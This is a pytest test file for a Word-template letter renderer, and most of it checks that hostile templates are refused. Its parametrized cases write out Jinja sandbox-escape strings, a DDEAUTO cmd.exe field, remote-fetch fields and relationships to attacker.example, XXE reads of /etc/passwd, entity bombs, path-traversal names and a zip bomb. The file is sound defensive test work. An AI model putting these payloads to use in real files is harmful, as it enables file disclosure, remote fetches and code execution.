"""Tests of Word templates that others wrote."""

from __future__ import annotations

import resource
import signal
import time
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO
from pathlib import Path
from xml.sax.saxutils import escape

import docx
import pytest
from tests.commands import run
from tests.letter_examples import FIRST, build_example, compose_example, read_example, text_of_docx
from tests.registers import Repository

from smregister.errors import FatalError
from smregister.letters.docx import render
from smregister.letters.docx.default_template import build_template
from smregister.letters.docx.package import LARGEST_FILE, open_package, pack_parts, unpack_parts
from smregister.letters.docx.render import write_default_template, write_docx
from smregister.letters.docx.timeout import TooSlowError, run_at_most
from smregister.letters.letter import Letter
from smregister.register.register import Register


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    return build_example(tmp_path_factory.mktemp("example"))


@pytest.fixture(scope="module")
def register() -> Register:
    return read_example()


@pytest.fixture
def letter(register: Register) -> Letter:
    return compose_example(register, FIRST, "en")


@cache
def empty_parts() -> Mapping[str, bytes]:
    """Return the parts of a Word file without text."""
    file = BytesIO()
    docx.Document().save(file)
    return unpack_parts(file.getvalue())


def template(*paragraphs: str) -> bytes:
    """Return a template of paragraphs."""
    written = "".join(f"<w:p><w:r><w:t>{escape(paragraph)}</w:t></w:r></w:p>" for paragraph in paragraphs)
    before, section, after = empty_parts()["word/document.xml"].partition(b"<w:sectPr")
    return pack_parts({**empty_parts(), "word/document.xml": before + written.encode() + section + after})


def with_parts(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Add parts to a Word file, or replace parts."""
    return pack_parts({**unpack_parts(content), **parts})


def edited(old: bytes, new: bytes, part: str = "word/document.xml", content: bytes | None = None) -> bytes:
    """Replace some text in a part of a template."""
    content = content or template("{{ title }}", "FIELD")
    with zipfile.ZipFile(BytesIO(content)) as package:
        assert old in package.read(part)
        return with_parts(content, {part: package.read(part).replace(old, new)})


def rejection(letter: Letter, content: bytes) -> str:
    """Return why a template is rejected."""
    with pytest.raises(FatalError) as refused:
        write_docx(letter, content, "letters/x.docx")
    words = str(refused.value)
    assert words.startswith("the template letters/x.docx can't be used: ")
    return words.partition("used: ")[2]


# Allowed syntax.


def test_facts_lists_and_conditions(letter: Letter) -> None:
    content = template(
        "To {{ officer[0].value|upper }}",
        "{%p for duty in duties %}",
        "{{ loop.index }}) {{ duty }}{% if loop.last %}!{% endif %}",
        "{%p endfor %}",
        "{%p if acting or not title %}",
        "never",
        "{%p else %}",
        "{{ 'many' if duties|length > 1 else 'one' }}",
        "{%p endif %}",
        "{{ code }}",
    )
    text = text_of_docx(write_docx(letter, content))
    assert text.startswith(f"To PEGAWAI CONTOH TUJUH 1) {letter.duties[0]} 2) {letter.duties[1]}! many")


def test_the_default_template_can_be_edited_and_used(letter: Letter) -> None:
    document = docx.Document(BytesIO(write_default_template()))
    document.paragraphs[0].insert_paragraph_before("Our motto")
    file = BytesIO()
    document.save(file)
    written = write_docx(letter, file.getvalue())
    assert text_of_docx(written).replace("Our motto ", "", 1) == text_of_docx(write_docx(letter))
    first = write_default_template()
    build_template.cache_clear()
    assert write_default_template() == first


def test_a_letterhead_can_link_to_the_agency(letter: Letter) -> None:
    relation = (
        b'<Relationship Id="rId900" TargetMode="External" Target="mailto:desk@register.example" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    content = edited(b"</Relationships>", relation, "word/_rels/document.xml.rels")
    assert letter.title in text_of_docx(write_docx(letter, content))


# Rejected syntax and content.


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__()|length }}", "templates can't do this (call), in `{{"),
        ("{{ title.__class__ }}", "access to attribute '__class__' of 'str' object is unsafe"),
        ("{{ title['__class__'] }}", "access to attribute '__class__'"),
        ("{{ code._draw }}", "access to attribute '_draw'"),
        ("{{ self._TemplateReference__context }}", "a letter has no `self`"),
        ("{{ lipsum.__globals__ }}", "a letter has no `lipsum`"),
        ("{{ cycler }}", "a letter has no `cycler`"),
        ("{{ request }}", "a letter has no `request`, in `{{ request }}`"),
        ("{{ 7 * 7 }}", "templates can't do this (mul)"),
        ("{{ 'a' * 10000000000 }}", "templates can't do this (mul)"),
        ("{{ 9 ** 9 ** 9 }}", "templates can't do this (pow)"),
        ("{{ title ~ title }}", "templates can't do this (concat)"),
        ("{{ '%01000000000d' % 1 }}", "templates can't do this (mod)"),
        ("{{ '{:>1000000000}'.format(1) }}", "templates can't do this (call)"),
        ("{{ title|safe }}", "No filter named 'safe'"),
        ("{{ title|attr('__class__') }}", "No filter named 'attr'"),
        ("{{ title|center(1000000000) }}", "No filter named 'center'"),
        ("{{ range(1000000000) }}", "templates can't do this (call)"),
        ("{% set a = title %}", "templates can't do this (assign)"),
        ("{% include '/etc/passwd' %}", "templates can't do this (include)"),
        ("{% import 'os' as os %}", "templates can't do this (import)"),
        ("{% extends '/etc/passwd' %}", "templates can't do this (extends)"),
        ("{% macro m() %}{{ m() }}{% endmacro %}", "templates can't do this (macro)"),
        ("{% for a in duties recursive %}{{ loop(duties) }}{% endfor %}", "a list is gone through inside another"),
        ("{% for a in title %}{% for b in title %}{% for c in title %}{% endfor %}{% endfor %}{% endfor %}", "inside"),
        ("{% for a, b in officer %}{% endfor %}", "a loop takes one name"),
        ("{% autoescape false %}{{ title }}{% endautoescape %}", "templates can't do this (scope)"),
        ("{% do title %}", "unknown tag 'do'"),
        ("{{ titel }}", "a letter has no `titel`, in `{{ titel }}`"),
        ("{{ officer[0].nmae }}", "has no attribute 'nmae', in `{{ officer[0].nmae }}`"),
        ("{{ officer[99] }}", "in `{{ officer[99] }}`"),
        ("Dear {{ title }", "in `Dear {{ title }"),
        ("{% if title %}", "in `"),
        ("{%tr for x in duties %}", "in `"),
    ],
)
def test_a_template_with_other_syntax_is_rejected(letter: Letter, text: str, words: str) -> None:
    assert words in rejection(letter, template("Before", text, "After")).replace("&#39;", "'")


def test_headers_and_properties_are_checked(letter: Letter) -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{ secrets }}"
    file = BytesIO()
    document.save(file)
    assert "a letter has no `secrets`" in rejection(letter, file.getvalue())
    document = docx.Document()
    document.core_properties.comments = "{{ 7*7 }}"
    file = BytesIO()
    document.save(file)
    assert "templates can't do this (mul)" in rejection(letter, file.getvalue())


FIELD = (
    b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'
)


@pytest.mark.parametrize(
    "instruction",
    [
        b'INCLUDEPICTURE "https://attacker.example/x.png"',
        b"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        b"  includetext /etc/passwd",
        b"D</w:instrText></w:r><w:r><w:instrText>DE x",
        b"",
        b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE',
    ],
)
def test_fields_that_fetch_are_rejected(letter: Letter, instruction: bytes) -> None:
    content = edited(b"<w:t>FIELD</w:t>", FIELD % instruction)
    assert "`word/document.xml` has a field `" in rejection(letter, content)


def test_simple_fields_are_checked(letter: Letter) -> None:
    content = edited(b"<w:t>FIELD</w:t>", b'</w:r><w:fldSimple w:instr="LINK Excel.Sheet.8"/><w:r>')
    assert "has a field `LINK`" in rejection(letter, content)
    write_docx(letter, edited(b"<w:t>FIELD</w:t>", FIELD % b" PAGE "))


def test_strict_namespaces_are_checked(letter: Letter) -> None:
    strict = (
        b'<hdr xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"><p><r><fldChar fldCharType="begin"/></r>'
        b"<r><instrText>DDEAUTO x</instrText></r></p></hdr>"
    )
    assert "has a field `DDEAUTO`" in rejection(letter, with_parts(template("x"), {"word/header9.XML": strict}))


@pytest.mark.parametrize(
    "element", [b'<w:mailMerge xmlns:w="w"/>', b'<x:altChunk xmlns:x="w"/>', b'<object xmlns="w"/>']
)
def test_active_elements_are_rejected(letter: Letter, element: bytes) -> None:
    assert "does more than show something" in rejection(letter, with_parts(template("x"), {"word/more.xml": element}))


def test_xml_with_the_name_of_a_picture_is_rejected(letter: Letter) -> None:
    for entry in (
        b'<Override PartName="/word/media/a.png" ContentType="application/xml"/>',
        b'<Default Extension="gif" ContentType="application/xml"/>',
    ):
        content = edited(b"</Types>", entry + b"</Types>", "[Content_Types].xml")
        assert "declares a picture or a font as text" in rejection(letter, content)


@pytest.mark.parametrize("place", [b"https://attacker.example/x.png", b"\\\\attacker.example\\share"])
def test_old_drawings_with_external_pictures_are_rejected(letter: Letter, place: bytes) -> None:
    drawing = b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="%s"/>' % place
    assert "fetches something" in rejection(letter, with_parts(template("x"), {"word/more.xml": drawing}))


def test_external_content_is_rejected(letter: Letter) -> None:
    relation = (
        b'<Relationship Id="rId900" TargetMode="%s" Target="%s" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
    )
    for values in (
        (b"External", b"https://attacker.example/x.dotm", b"attachedTemplate"),
        (b"external", b"https://attacker.example/x.png", b"image"),
        (b"External", b"file://attacker.example/share", b"hyperlink"),
        (b"External", b"javascript:alert(1)", b"hyperlink"),
    ):
        content = edited(b"</Relationships>", relation % values, "word/_rels/document.xml.rels")
        assert "`word/_rels/document.xml.rels` fetches something from outside" in rejection(letter, content)


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/activeX/activeX1.bin",
        "word/embeddings/oleObject1.bin",
        "word/afchunk.html",
        "word/media/x.wmf",
        "../../evil.xml",
        "/etc/passwd",
        "word/../../x.xml",
        "word\\x.xml",
        "word/x.xml\n",
    ],
)
def test_other_parts_are_rejected(letter: Letter, part: str) -> None:
    assert "is not part of a page" in rejection(letter, with_parts(template("x"), {part: b"x"}))


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><x/>'.encode("utf-16"),
    ],
)
def test_entity_declarations_are_rejected(letter: Letter, content: bytes) -> None:
    words = rejection(letter, with_parts(template("x"), {"word/more.xml": content}))
    assert words.startswith("`word/more.xml` declares something")


def test_other_encodings_are_rejected(letter: Letter) -> None:
    hidden = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    assert rejection(letter, with_parts(template("x"), {"word/more.xml": hidden})).startswith(
        "`word/more.xml` is not in"
    )


_MEBIBYTE = 1024 * 1024


def bomb(size: int) -> bytes:
    file = BytesIO()
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package,
        package.open("word/document.xml", "w") as part,
    ):
        part.write(b"<x/>")
        for _ in range(size // _MEBIBYTE):
            part.write(b" " * _MEBIBYTE)
    return file.getvalue()


def test_a_zip_bomb_is_not_unpacked(letter: Letter) -> None:
    content = bomb(200 * _MEBIBYTE)
    assert len(content) < LARGEST_FILE
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert rejection(letter, content) == "unpacked it is larger than a letter can be"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
    assert rejection(letter, bomb(3 * _MEBIBYTE)) == "`word/document.xml` is too large"


def test_a_zip_with_false_sizes_is_rejected(letter: Letter) -> None:
    content = bomb(20 * 1024 * 1024)
    size = (20 * 1024 * 1024 + 4).to_bytes(4, "little")
    assert content.count(size) == 2
    assert "damaged" in rejection(letter, content.replace(size, (100).to_bytes(4, "little")))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "it is damaged or not a Word file"),
        (b"PK\x03\x04 nonsense", "it is damaged or not a Word file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "it is damaged or not a Word file"),
        (pack_parts({"word/styles.xml": b"<x/>"}), "it is not a Word file; save it as .docx"),
        (pack_parts({"word/document.xml": b"<x/>"}), "it is damaged; save it again in a word processor"),
        (pack_parts({"word/document.xml": b"<x>"}), "`word/document.xml` is damaged"),
        (b"x" * (LARGEST_FILE + 1), "it is larger than 512 KiB; make its pictures smaller"),
        (pack_parts({f"word/{n}.xml": b"<x/>" for n in range(300)}), "unpacked it is larger than a letter can be"),
    ],
)
def test_an_invalid_word_file_is_rejected(letter: Letter, content: bytes, words: str) -> None:
    assert rejection(letter, content).startswith(words)


def test_a_duplicate_part_is_rejected(letter: Letter) -> None:
    file = BytesIO(template("x"))
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(file, "a") as package:
        package.writestr("word/document.xml", b"<x/>")
    assert rejection(letter, file.getvalue()) == "it has a part twice"


def test_a_slow_template_is_stopped(letter: Letter, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "_MAX_SECONDS", 0.001)
    assert rejection(letter, build_template()).startswith("it takes longer than 0 s; make it simpler")
    with pytest.raises(TooSlowError):
        run_at_most(0.05, time.sleep, 30)


def test_without_alarms_another_process_is_stopped(letter: Letter, monkeypatch: pytest.MonkeyPatch) -> None:
    faulty = template("{{ nothing }}")
    written, words = write_docx(letter), rejection(letter, faulty)
    monkeypatch.delattr(signal, "setitimer")
    monkeypatch.delattr(signal, "SIGALRM")
    assert (write_docx(letter), rejection(letter, faulty)) == (written, words)
    with pytest.raises(TooSlowError):
        run_at_most(2, time.sleep, 30)


def test_a_template_that_grows_is_stopped(letter: Letter) -> None:
    text = "x" * 1_000_000
    loop = "{% for a in title %}{% for b in title %}" + text + "{% endfor %}{% endfor %}"
    assert "it makes more than a letter can hold" in rejection(letter, template(loop))


def test_facts_are_escaped(letter: Letter) -> None:
    parts = open_package(template("{{ title }}"), "x")
    assert "word/document.xml" in parts
    content = template("{{ '<w:p/>' }}{{ '{{ 7*7 }}' }}")
    assert "<w:p/>{{ 7*7 }}" in text_of_docx(write_docx(letter, content))


# Choice of the template.


@pytest.fixture
def own(tmp_path: Path, example: Repository, request: pytest.FixtureRequest) -> Callable[..., str]:
    """Return a function that writes a letter in a register with some templates, and returns its text."""
    import shutil

    root = tmp_path / "copy"
    shutil.copytree(example.root, root)

    def own(*arguments: str, **templates: str) -> str:
        (root / "letters").mkdir(exist_ok=True)
        for name, text in templates.items():
            (root / "letters" / f"{name.replace('_', '-')}.docx").write_bytes(template(text))
        Repository(root).commit({})
        answer = run(root, "letter", FIRST, "-o", str(tmp_path / "x.docx"), "--force", *arguments)
        assert answer.status == 0, answer.messages
        return text_of_docx((tmp_path / "x.docx").read_bytes())

    return own


def test_the_template_of_an_agency_precedes_that_of_the_register(own: Callable[..., str], tmp_path: Path) -> None:
    assert own(letter="For all: {{ title }}", my_japen="Another's").startswith("For all: Surat Penunjukan")
    assert own(id_jk_diskominfotik="Its own") == "Its own"
    (tmp_path / "given.docx").write_bytes(template("Given"))
    assert own("--template", str(tmp_path / "given.docx")) == "Given"
    assert own("--ref", "HEAD~3") == "For all: Surat Penunjukan Petugas Pengelola Media Sosial"


def test_a_symbolic_link_is_no_template(example: Repository, tmp_path: Path) -> None:
    import shutil

    root = tmp_path / "copy"
    shutil.copytree(example.root, root)
    (root / "letters").mkdir()
    (root / "letters" / "letter.docx").symlink_to("/etc/passwd")
    answer = run(root, "letter", FIRST, "-o", str(tmp_path / "x.docx"))
    assert answer.status == 2
    assert "the template letters/letter.docx can't be used: it is a link" in answer.messages
